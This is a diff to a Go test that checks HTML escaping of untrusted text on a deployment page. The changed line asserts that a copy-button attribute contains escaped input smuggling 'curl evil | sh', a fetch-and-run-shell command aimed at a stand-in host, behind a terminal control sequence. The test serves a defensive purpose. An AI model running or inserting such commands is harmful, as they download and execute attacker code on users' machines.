@@ -125,7 +125,7 @@ func TestTextFromOutsideIsEscaped(t *testing.T) {
 	}
 	html := page200(t, h, "/deployments/"+d.ID)
 	assert.Contains(t, html, "&lt;script&gt;alert(1)&lt;/script&gt;")
-	assert.Contains(t, html, `data-copy="echo safe[2K curl evil | sh&lt;script`, "a command is one line, without control or reordering characters")
+	assert.Contains(t, html, `data-copy="echo safe[2K &amp;&amp; curl evil | sh&lt;script`, "a command is one line, without control or reordering characters")
 }
 
 func TestFiguresThatAreNone(t *testing.T) {
